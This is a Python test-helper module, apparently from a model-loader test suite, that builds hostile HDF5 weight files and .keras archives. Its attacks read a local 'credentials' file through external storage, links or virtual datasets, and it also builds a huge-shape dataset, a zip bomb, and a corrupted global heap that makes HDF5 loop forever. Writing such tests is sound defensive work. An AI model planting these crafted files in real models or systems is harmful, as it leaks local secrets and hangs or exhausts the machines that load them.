"""Hostile HDF5 files and `.keras` archives, made at test time from valid ones.

Each attack replaces one weight dataset of a valid file (same path, same shape and dtype, so a
loader that follows it would load it without complaint) by one whose data comes from outside the
file: a local "secret" file (external storage), a dataset of another file (external link, a soft
link to an external link, a virtual dataset), or by one that declares far more data than the file
holds (an unwritten dataset of HUGE_ELEMENTS float32: the file stays a few KB).
"""

import os
import shutil
import zipfile

import h5py
import numpy

# 16 bytes: the size of a (4,) float32 weight, so a loader that follows the attack loads all of it.
SECRET = b"TOPSECRET-KEY-42"
ATTACKS = ("external_storage", "external_link", "soft_link", "virtual_dataset")
REFUSALS = {
    "external_storage": "external storage",
    "external_link": "ExternalLink",
    "soft_link": "SoftLink|ExternalLink",
    "virtual_dataset": "virtual dataset",
}
HUGE_ELEMENTS = 100_000_000  # 400 MB declared; a 12 KB file
HUGE_SHAPE_ATTACK = "huge_shape"


def secret_file(directory, nbytes):
    """A local file holding SECRET repeated to `nbytes` bytes (think: a credentials file)."""
    path = os.path.join(directory, "credentials.secret")
    with open(path, "wb") as file:
        file.write((SECRET * (nbytes // len(SECRET) + 1))[:nbytes])
    return path


def secret_hdf5(directory, shape, dtype):
    """Another HDF5 file whose dataset `/data` holds the secret's bytes with the given shape and dtype."""
    nbytes = int(numpy.prod(shape)) * numpy.dtype(dtype).itemsize
    raw = numpy.frombuffer(open(secret_file(directory, nbytes), "rb").read(), dtype=dtype).reshape(shape)
    path = os.path.join(directory, "other.h5")
    with h5py.File(path, "w") as file:
        file.create_dataset("data", data=raw)
    return path


def attack(path, dataset_path, how, directory):
    """Replace the dataset at `dataset_path` in the HDF5 file `path` (in place) by the attack `how`."""
    with h5py.File(path, "r+") as file:
        shape, dtype = file[dataset_path].shape, file[dataset_path].dtype
        nbytes = int(numpy.prod(shape)) * dtype.itemsize
        del file[dataset_path]
        if how == "external_storage":
            file.create_dataset(dataset_path, shape, dtype, external=[(secret_file(directory, nbytes), 0, nbytes)])
        elif how == "external_link":
            file[dataset_path] = h5py.ExternalLink(secret_hdf5(directory, shape, dtype), "/data")
        elif how == "soft_link":
            file["/hidden"] = h5py.ExternalLink(secret_hdf5(directory, shape, dtype), "/data")
            file[dataset_path] = h5py.SoftLink("/hidden")
        elif how == "virtual_dataset":
            layout = h5py.VirtualLayout(shape=shape, dtype=dtype)
            layout[...] = h5py.VirtualSource(secret_hdf5(directory, shape, dtype), "data", shape=shape)
            file.create_virtual_dataset(dataset_path, layout)
        elif how == HUGE_SHAPE_ATTACK:
            file.create_dataset(dataset_path, shape=(HUGE_ELEMENTS,), dtype="float32")
        else:
            raise ValueError(f"unknown attack {how!r}")


def rezip(keras_path, weights_path, output, compression=zipfile.ZIP_STORED):
    """A copy of the `.keras` archive with `model.weights.h5` replaced by the file `weights_path`."""
    with zipfile.ZipFile(keras_path) as source, zipfile.ZipFile(output, "w", compression) as target:
        for name in source.namelist():
            if name == "model.weights.h5":
                target.write(weights_path, name)
            else:
                target.writestr(name, source.read(name))
    return output


def attack_keras(keras_path, dataset_path, how, directory):
    """Replace, in place, one dataset of the `model.weights.h5` inside the `.keras` archive."""
    inner = os.path.join(directory, "inner.weights.h5")
    with zipfile.ZipFile(keras_path) as archive, open(inner, "wb") as output:
        shutil.copyfileobj(archive.open("model.weights.h5"), output)
    attack(inner, dataset_path, how, directory)
    hostile = rezip(keras_path, inner, keras_path + ".tmp")
    os.replace(hostile, keras_path)


def zip_bomb(keras_path, inflated_bytes):
    """Replace, in place, `model.weights.h5` inside the `.keras` by `inflated_bytes` zeros, deflated
    (about 1000:1), written piece by piece."""
    output = keras_path + ".tmp"
    with zipfile.ZipFile(keras_path) as source, zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            if name == "model.weights.h5":
                info = zipfile.ZipInfo(name)
                info.compress_type = zipfile.ZIP_DEFLATED
                with target.open(info, "w", force_zip64=True) as member:
                    zeros = bytes(2**20)
                    for _ in range(inflated_bytes // len(zeros)):
                        member.write(zeros)
            else:
                target.writestr(name, source.read(name))
    os.replace(output, keras_path)


def zero_size_heap_object(path):
    """Set, in place, the size of the free-space object of the file's first global heap collection
    (where HDF5 keeps variable-length strings: Keras's names and configs) to 0: reading any such
    string then makes HDF5 (up to 2.0 at least) loop forever."""
    with open(path, "r+b") as file:
        data = file.read()
        position = data.index(b"GCOL")
        end, cursor = position + int.from_bytes(data[position + 8 : position + 16], "little"), position + 16
        while cursor + 16 <= end:
            index = int.from_bytes(data[cursor : cursor + 2], "little")
            size = int.from_bytes(data[cursor + 8 : cursor + 16], "little")
            if index == 0:
                file.seek(cursor + 8)
                file.write(bytes(8))
                return
            cursor += 16 + -(-size // 8) * 8
    raise ValueError(f"{path}: no free-space object in its first global heap")
